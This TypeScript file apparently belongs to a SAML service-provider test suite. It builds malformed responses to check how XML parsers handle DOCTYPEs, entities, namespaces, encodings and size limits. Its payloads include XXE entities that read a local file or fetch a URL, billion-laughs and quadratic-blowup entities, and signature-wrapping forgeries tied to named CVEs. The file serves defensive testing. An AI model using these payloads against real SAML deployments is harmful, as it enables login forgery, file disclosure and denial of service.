/** Attacks on XML parsers: DOCTYPEs, entities, attributes, namespaces, encodings, depth and size. */
import type { Fault, Strikes } from '../fault.ts';
import {
  assertionClaimsFault,
  at,
  bytesFault,
  documentFault,
  extended,
  type Facts,
  fault,
  hasPlainAssertion,
} from '../fault-builders.ts';
import { forgeNames } from '../forged-names.ts';
import { afterIssuer, withoutSignature } from '../response/signing.ts';
import {
  child,
  type Element,
  element,
  namespaces,
  render,
  withAttributes,
  withChildren,
  writtenName,
} from '../response/xml.ts';
import { forgedResponse } from './wrapping.ts';

const text = ['text'];
const dtd = 'SAML deployment profile SDP-G03; SAML implementation profile IIP-G03';
const nowhere = 'http://127.0.0.1:9/outside';

/** Inserts a DOCTYPE before the root element; `use` is written into the first NameID. */
const doctypeFault = <const Code extends string>(
  facts: Omit<Facts<Code>, 'touches' | 'rule'> & { rule?: string },
  declaration: string | (() => string),
  use = '',
): Fault<Code> =>
  bytesFault(
    { rule: dtd, ...facts, touches: text },
    (xml) => `${typeof declaration === 'string' ? declaration : declaration()}${use === '' ? xml : inNameId(xml, use)}`,
  );

/** Returns the text unchanged if it has no NameID, so that the fault counts as not struck. */
const inNameId = (xml: string | Buffer, added: string): string =>
  String(xml).replace(new RegExp(`<${writtenName('saml:NameID')}(\\s[^<>]*)?>`), (tag) => `${tag}${added}`);
const nameIdTextFault = <const Code extends string>(facts: Omit<Facts<Code>, 'touches'>, added: string): Fault<Code> =>
  bytesFault({ ...facts, touches: ['text', 'NameID'] }, (xml) => {
    const changed = inNameId(xml, added);
    return changed === String(xml) ? xml : changed;
  });

/** Signs only the response, and moves it into an Object of its signature, which `forge` gives to a forged response. */
const signedInObject = (
  forge: (forged: Element, signature: Element) => Element,
): Pick<Strikes, 'signing' | 'transit'> => ({
  signing: (signing, strike) => (hasPlainAssertion(strike) ? { ...signing, assertion: undefined } : signing),
  transit(response, strike) {
    const signature = child(response, 'ds:Signature');
    if (signature === undefined || !hasPlainAssertion(strike)) return response;
    const object = element('ds:Object', {}, withoutSignature(response));
    return forge(forgedResponse(response, strike), withChildren(signature, ...signature.children, object));
  },
});

/** Replaced by an entity in the bytes, because a tree escapes the ampersand. */
const entityHere = '_entity-here';

/** Ends a comment that begins in the DOCTYPE, and then the DOCTYPE; without the comment, an instruction. */
const behindComment = '<?x -->]>';

const startTag = (name: string): string => `<${writtenName(name)}`;

const rootAttributeFault = <const Code extends string>(
  facts: Omit<Facts<Code>, 'touches'>,
  attribute: string,
): Fault<Code> =>
  bytesFault({ ...facts, touches: ['text', 'Response'] }, (xml) =>
    String(xml).replace(startTag('samlp:Response'), (tag) => `${tag} ${attribute}`),
  );

const billionLaughs = [
  '<!ENTITY a0 "ha">',
  ...Array.from({ length: 9 }, (_, level) => `<!ENTITY a${level + 1} "${`&a${level};`.repeat(10)}">`),
].join('');

export const parserFaults = {
  'an XML entity in the NameID': doctypeFault(
    { code: 'entity-in-nameid', sentence: 'The NameID uses an entity that the DOCTYPE declares.' },
    '<!DOCTYPE r [<!ENTITY who "mallory">]>',
    '&who;',
  ),
  'an empty DOCTYPE': doctypeFault(
    { code: 'doctype-present', sentence: 'A DOCTYPE without declarations precedes the root element.' },
    '<!DOCTYPE Response>',
  ),
  'a DOCTYPE that parsers read differently': doctypeFault(
    {
      code: 'doctype-parser-differential',
      sentence: 'One parser reads part of the DOCTYPE as a comment, another as the message.',
      rule: `${dtd}; CVE-2025-25291`,
    },
    '<!DOCTYPE r SYSTEM "x>" [<!ENTITY quote "<!--">]>',
  ),
  'a forged and a signed response for different parsers': fault(
    {
      code: 'xsw-doctype-differential',
      sentence:
        'A parser that finds a comment in the DOCTYPE reads the signed Response; another reads a forged one without ' +
        'a signature.',
      rule: `${dtd}; CVE-2025-25291`,
      touches: text,
    },
    {
      transit: (response, strike) => {
        if (!hasPlainAssertion(strike)) return response;
        const forged = forgedResponse(response, strike);
        const hidden = `<?x -->">]>${render(response)}<!--?>`;
        return withChildren(forged, ...forged.children, { verbatim: hidden, canonical: hidden });
      },
      bytes: (xml, strike) => (hasPlainAssertion(strike) ? `<!DOCTYPE r [<!ENTITY a "<!--">]>${xml}<!-- -->` : xml),
    },
  ),
  // Both parsers find one Response, which is whole and has the signature, so counting signatures finds nothing.
  'a forged response with a copied signature behind the DOCTYPE': fault(
    {
      code: 'xsw-doctype-entity',
      sentence:
        'One parser reads the signed Response; another takes an entity in the DOCTYPE for the start of a comment, ' +
        'and reads a forged copy with the same signature.',
      rule: `${dtd}; CVE-2025-25291`,
      touches: [...text, 'Signature', 'NameID', 'AttributeValue'],
    },
    {
      transit(response, strike) {
        const signature = child(response, 'ds:Signature');
        if (signature === undefined || !hasPlainAssertion(strike)) return response;
        const hidden = `${behindComment}${render(forgeNames(response, strike))}<!--?>`;
        const holder = withChildren(signature, ...signature.children, { verbatim: hidden, canonical: hidden });
        return withChildren(response, ...response.children.map((one) => (one === signature ? holder : one)));
      },
      bytes: (xml) =>
        String(xml).includes(behindComment)
          ? `<!DOCTYPE r [<!ENTITY % p ' '>%p;<!ENTITY x 'y;\n<!--'>]>${xml}<?y --><?w ?>`
          : xml,
    },
  ),
  'a forged response whose ID is an entity': fault(
    {
      code: 'xsw-entity-id',
      sentence:
        'The ID of a forged Response is an entity that stands for the ID of the signed one, which is in an Object of ' +
        'the signature.',
      rule: `${dtd}; CVE-2025-23369`,
      touches: text,
    },
    {
      ...signedInObject((forged, signature) => withAttributes(afterIssuer(forged, signature), { ID: entityHere })),
      bytes: (xml, strike) =>
        String(xml).includes(entityHere)
          ? `<!DOCTYPE r [<!ENTITY id "${strike.claims.responseId}">]>${String(xml).replace(entityHere, '&id;')}`
          : xml,
    },
  ),
  'a forged response with a signature whose namespace the DOCTYPE declares': fault(
    {
      code: 'xsw-namespace-differential',
      sentence:
        'A forged Response has a Signature that is one only by an attribute default in the DOCTYPE; its Object has ' +
        'the signed one.',
      rule: `${dtd}; CVE-2025-25292`,
      touches: [...text, 'Response/@ID', 'Assertion/@ID', 'Signature', 'NameID', 'AttributeValue'],
    },
    {
      ...signedInObject((forged, signature) => afterIssuer(forged, { ...signature, name: 'Signature' })),
      bytes: (xml) =>
        String(xml).includes('<Signature>')
          ? `<!DOCTYPE r [<!ATTLIST Signature xmlns CDATA #FIXED "${namespaces.ds}">]>${xml}`
          : xml,
    },
  ),
  'a DOCTYPE that declares ID attributes': doctypeFault(
    {
      code: 'doctype-id-attribute',
      sentence: 'The DOCTYPE declares another attribute to be the ID of assertions.',
    },
    () => `<!DOCTYPE r [<!ATTLIST ${writtenName('saml:Assertion')} Version ID #IMPLIED>]>`,
  ),
  'an external entity with a file URL': doctypeFault(
    { code: 'xxe-file', sentence: 'An entity in the NameID refers to a file of the SP.', rule: `${dtd}; OWASP XXE` },
    '<!DOCTYPE r [<!ENTITY file SYSTEM "file:///etc/hostname">]>',
    '&file;',
  ),
  'an external entity with an HTTP URL': doctypeFault(
    {
      code: 'xxe-http',
      sentence: 'An entity in the NameID refers to a URL.',
      rule: `${dtd}; OWASP XXE`,
    },
    `<!DOCTYPE r [<!ENTITY web SYSTEM "${nowhere}">]>`,
    '&web;',
  ),
  'an external parameter entity': doctypeFault(
    {
      code: 'xxe-parameter',
      sentence: 'The DOCTYPE loads the rest of itself from a URL.',
      rule: `${dtd}; CVE-2024-52596`,
    },
    `<!DOCTYPE r [<!ENTITY % rest SYSTEM "${nowhere}"> %rest;]>`,
  ),
  'a billion laughs attack': doctypeFault(
    {
      code: 'billion-laughs',
      sentence: 'Nested entities expand the NameID to gigabytes.',
      rule: `${dtd}; denial of service`,
    },
    `<!DOCTYPE r [${billionLaughs}]>`,
    '&a9;',
  ),
  'a quadratic blowup attack': doctypeFault(
    {
      code: 'quadratic-blowup',
      sentence: 'The NameID uses one long entity thousands of times.',
      rule: `${dtd}; denial of service`,
    },
    `<!DOCTYPE r [<!ENTITY long "${'x'.repeat(10_000)}">]>`,
    '&long;'.repeat(10_000),
  ),
  'an undeclared entity': nameIdTextFault(
    { code: 'entity-undeclared', sentence: 'The NameID uses an entity that is not declared.', rule: 'XML 1.0 4.1' },
    '&who;',
  ),

  'a namespace prefix called ID': rootAttributeFault(
    {
      code: 'namespace-parser-differential',
      sentence: 'The root element declares a prefix called ID, which some parsers mistake for the attribute.',
      rule: 'SAML core 1.3.4; CVE-2025-25292 and CVE-2025-66567',
    },
    'xmlns:ID="urn:elsewhere:id"',
  ),
  'a second ID attribute in the protocol namespace': documentFault(
    {
      code: 'attribute-pollution',
      sentence: 'The Response has an ID attribute in the protocol namespace next to its own.',
      rule: 'SAML core 1.3.4; the “Fragile Lock” class',
      touches: ['Response'],
    },
    (root) => withAttributes(root, { 'samlp:ID': '_other' }),
  ),
  'a namespace URI with quotation marks': documentFault(
    {
      code: 'namespace-quotes',
      sentence: 'An extension declares a namespace URI with quotation marks, which some serializers do not escape.',
      rule: 'Namespaces in XML 1.0 section 2.2 (a URI)',
      touches: ['Response/Extensions'],
      signedProperly: false,
    },
    (response) => extended(response, element('vendor:Hint', { 'xmlns:vendor': 'https://vendor.example/" ID="_other' })),
  ),
  'a namespace prefix called __proto__': documentFault(
    {
      code: 'namespace-prefix-proto',
      sentence:
        'An extension declares and uses the prefix __proto__, which is lost where prefixes are keys ' +
        'of a JavaScript object.',
      rule: 'Namespaces in XML 1.0 section 4',
      touches: ['Response/Extensions'],
    },
    (response) => {
      const declaration = ' xmlns:__proto__="https://vendor.example/proto"';
      const hint = (outer: string, inner: string): string =>
        `<vendor:Hint${outer}><__proto__:Word${inner}></__proto__:Word></vendor:Hint>`;
      return extended(
        response,
        element(
          'vendor:Box',
          { 'xmlns:vendor': 'https://vendor.example/saml' },
          { verbatim: hint(declaration, ''), canonical: hint('', declaration) },
        ),
      );
    },
  ),
  'an attribute called xmlnsID': documentFault(
    {
      code: 'attribute-like-namespace',
      sentence: 'The Response has an attribute called xmlnsID: it is not in the schema and declares no namespace.',
      rule: 'SAML core 3.2.2 (schema); Namespaces in XML 1.0 section 3',
      touches: ['Response'],
    },
    (root) => withAttributes(root, { xmlnsID: '_other' }),
  ),
  'a duplicate XML attribute': rootAttributeFault(
    {
      code: 'attribute-duplicate',
      sentence: 'The root element has two attributes called ID.',
      rule: 'XML 1.0 3.1 (unique attributes)',
    },
    'ID="_other"',
  ),
  'a lower-case id attribute': documentFault(
    {
      code: 'attribute-id-lowercase',
      sentence: 'The Subject has an attribute id with the value of the Assertion’s ID.',
      rule: 'SAML core 1.3.4',
      touches: ['Subject'],
    },
    (root, strike) =>
      at('saml:Assertion/saml:Subject', (subject) => withAttributes(subject, { id: strike.claims.assertionId }))(
        root,
        strike,
      ),
  ),
  'an Id attribute next to ID': documentFault(
    {
      code: 'attribute-id-beside',
      sentence: 'The Response has an attribute Id next to its ID.',
      rule: 'SAML core 1.3.4 and 3.2.2 (schema)',
      touches: ['Response'],
    },
    (root) => withAttributes(root, { Id: '_other' }),
  ),
  'an attribute name with two leading colons': rootAttributeFault(
    {
      code: 'colon-attribute-roundtrip',
      sentence: 'The name of an attribute of the root element starts with two colons.',
      rule: 'Namespaces in XML 1.0 section 4; CVE-2020-27846',
    },
    '::foo="bar"',
  ),
  'an undeclared namespace prefix': rootAttributeFault(
    {
      code: 'prefix-undeclared',
      sentence: 'The root element has an attribute with an undeclared prefix.',
      rule: 'Namespaces in XML 1.0 section 5',
    },
    'unbound:attribute="it"',
  ),
  // An SP may accept or reject it, but must not fetch it. Accepted: some IdP products send it.
  'a remote xsi:schemaLocation': documentFault(
    {
      code: 'schemalocation-remote',
      sentence: 'The xsi:schemaLocation of the root element is a URL, which the SP must not fetch.',
      rule: 'XML Schema Part 1, 4.3.2 (a hint)',
      verdict: 'accept',
      touches: ['Response'],
    },
    (root) => withAttributes(root, { 'xsi:schemaLocation': `urn:oasis:names:tc:SAML:2.0:protocol ${nowhere}` }),
  ),

  'Extensions nested {levels} levels deep': documentFault(
    {
      code: 'deep-nesting',
      sentence: 'The Extensions contain deeply nested elements.',
      rule: 'denial of service: a limit of the SP',
      amount: { unit: 'levels', accept: [10], reject: [100, 10_000] },
      touches: ['Response/Extensions'],
    },
    (response, { amount }) => {
      const [open, close] = [
        '<vendor:Box>'.repeat(Math.max(0, amount - 1)),
        '</vendor:Box>'.repeat(Math.max(0, amount - 1)),
      ];
      return extended(
        response,
        element(
          'vendor:Box',
          { 'xmlns:vendor': 'https://vendor.example/saml' },
          { verbatim: open + close, canonical: open + close },
        ),
      );
    },
  ),
  'an element with a thousand attributes': documentFault(
    {
      code: 'many-attributes',
      sentence: 'An extension has a thousand attributes.',
      rule: 'denial of service: a limit of the SP',
      touches: ['Response/Extensions'],
    },
    (response) =>
      extended(
        response,
        element('vendor:Box', {
          'xmlns:vendor': 'https://vendor.example/saml',
          ...Object.fromEntries(
            Array.from({ length: 1000 }, (_, index) => [`a${String(index).padStart(4, '0')}`, 'x']),
          ),
        }),
      ),
  ),
  'twenty thousand elements': documentFault(
    {
      code: 'many-elements',
      sentence: 'The Extensions contain twenty thousand elements.',
      rule: 'denial of service: a limit of the SP',
      touches: ['Response/Extensions'],
    },
    (response) =>
      extended(
        response,
        element(
          'vendor:Box',
          { 'xmlns:vendor': 'https://vendor.example/saml' },
          {
            verbatim: '<vendor:Item></vendor:Item>'.repeat(20_000),
            canonical: '<vendor:Item></vendor:Item>'.repeat(20_000),
          },
        ),
      ),
  ),
  'three hundred elements with fifty attributes each': documentFault(
    {
      code: 'many-attributes-in-all',
      sentence: 'The Extensions contain three hundred elements with fifty attributes each.',
      rule: 'denial of service: a limit of the SP',
      touches: ['Response/Extensions'],
    },
    (response) => {
      const attributes = Array.from({ length: 50 }, (_, index) => `a${String(index).padStart(2, '0')}="x"`);
      const items = `<vendor:Item ${attributes.join(' ')}></vendor:Item>`.repeat(300);
      return extended(
        response,
        element('vendor:Box', { 'xmlns:vendor': 'https://vendor.example/saml' }, { verbatim: items, canonical: items }),
      );
    },
  ),
  'a thousand comments': documentFault(
    {
      code: 'many-comments',
      sentence: 'The Extensions contain a thousand comments.',
      rule: 'denial of service: a limit of the SP',
      touches: ['Response/Extensions'],
    },
    (response) =>
      extended(
        response,
        element(
          'vendor:Box',
          { 'xmlns:vendor': 'https://vendor.example/saml' },
          { verbatim: '<!--x-->'.repeat(1_000), canonical: '' },
        ),
      ),
  ),
  'two thousand CDATA sections': documentFault(
    {
      code: 'many-cdata-sections',
      sentence: 'The Extensions contain two thousand CDATA sections.',
      rule: 'denial of service: a limit of the SP',
      touches: ['Response/Extensions'],
    },
    (response) =>
      extended(
        response,
        element(
          'vendor:Box',
          { 'xmlns:vendor': 'https://vendor.example/saml' },
          { verbatim: '<![CDATA[x]]>'.repeat(2_000), canonical: 'x'.repeat(2_000) },
        ),
      ),
  ),
  'a response of {megabytes} megabytes': assertionClaimsFault(
    {
      code: 'huge-response',
      sentence: 'One AttributeValue fills the response.',
      rule: 'denial of service: a limit of the SP; CVE-2025-54572',
      amount: { unit: 'megabytes', accept: [], reject: [2, 20] },
      touches: ['AttributeStatement'],
    },
    (claims, { amount }) => ({
      ...claims,
      attributes: [
        ...claims.attributes,
        { name: 'essay', nameFormat: undefined, values: ['x'.repeat(amount * 1024 * 1024)] },
      ],
    }),
  ),
  'five hundred groups': assertionClaimsFault(
    {
      code: 'many-groups',
      sentence: 'The user is in five hundred groups: a lot, but legitimate.',
      rule: 'SAML core 2.7.3.1 (any number of values)',
      verdict: 'accept',
      touches: ['AttributeStatement'],
    },
    (claims) => ({
      ...claims,
      attributes: [
        ...claims.attributes,
        {
          name: 'allGroups',
          nameFormat: undefined,
          values: Array.from({ length: 500 }, (_, index) => `group-${index}`),
        },
      ],
    }),
  ),

  // An SP may decode it correctly or reject it. Rejected: a wrong guess changes what was signed.
  'a UTF-16 response': bytesFault(
    {
      code: 'xml-encoding-utf16',
      sentence: 'The message is in UTF-16 with a byte order mark.',
      rule: 'XML 1.0 4.3.3; rejected by this catalogue',
      touches: text,
    },
    (xml) => Buffer.from(`\uFEFF<?xml version="1.0" encoding="UTF-16"?>${xml}`, 'utf16le'),
  ),
  'an ISO 8859-1 response': bytesFault(
    {
      code: 'xml-encoding-iso-8859-1',
      sentence: 'The message declares ISO 8859-1 and has a comment with an umlaut.',
      rule: 'XML 1.0 4.3.3; rejected by this catalogue',
      touches: text,
    },
    (xml) => Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?><!--\u00fc-->${xml}`, 'latin1'),
  ),
  'a UTF-7 response': bytesFault(
    {
      code: 'xml-encoding-utf7',
      sentence: 'The message declares UTF-7, in which harmless text can contain markup.',
      rule: 'XML 1.0 4.3.3; rejected by this catalogue',
      touches: text,
    },
    (xml) => `<?xml version="1.0" encoding="UTF-7"?>${xml}`,
  ),
  'a response with a byte order mark': bytesFault(
    {
      code: 'xml-encoding-bom',
      sentence: 'The message starts with the UTF-8 byte order mark.',
      rule: 'XML 1.0 4.3.3; rejected by this catalogue',
      touches: text,
    },
    (xml) => `\uFEFF${xml}`,
  ),
  'a response with invalid UTF-8': bytesFault(
    {
      code: 'xml-encoding-invalid',
      sentence: 'A comment before the root element contains an octet that is invalid in UTF-8.',
      rule: 'XML 1.0 4.3.3',
      touches: text,
    },
    (xml) => Buffer.concat([Buffer.from('<!--'), Buffer.from([0xfc]), Buffer.from('-->'), Buffer.from(xml)]),
  ),
  'an XML 1.1 response': bytesFault(
    {
      code: 'xml-version-1-1',
      sentence: 'The message declares XML 1.1, which allows other characters.',
      rule: 'XML 1.0 2.8; rejected by this catalogue',
      touches: text,
    },
    (xml) => `<?xml version="1.1" encoding="UTF-8"?>${xml}`,
  ),
  'a NUL character in the NameID': nameIdTextFault(
    { code: 'nul-characters', sentence: 'The NameID starts with the character U+0000.', rule: 'XML 1.0 2.2' },
    '\u0000',
  ),
  'a control character in the NameID': nameIdTextFault(
    {
      code: 'control-characters',
      sentence: 'The NameID starts with a reference to the character U+0001.',
      rule: 'XML 1.0 2.2 and 4.1',
    },
    '&#1;',
  ),
  'a noncharacter in the NameID': nameIdTextFault(
    { code: 'noncharacter-fffe', sentence: 'The NameID starts with the character U+FFFE.', rule: 'XML 1.0 2.2' },
    '\uFFFE',
  ),
  'a truncated response': bytesFault(
    {
      code: 'xml-truncated',
      sentence: 'The second half of the message is missing.',
      rule: 'XML 1.0 2.1',
      touches: text,
    },
    (xml) => String(xml).slice(0, Math.floor(String(xml).length / 2)),
  ),
  'a mismatched end tag': bytesFault(
    {
      code: 'xml-mismatched-tag',
      sentence: 'The end tag of the root element has another name.',
      rule: 'XML 1.0 3',
      touches: text,
    },
    (xml) => String(xml).replace(new RegExp(`</${writtenName('samlp:Response')}>$`), '</samlp:Answer>'),
  ),
} satisfies Record<string, Fault>;
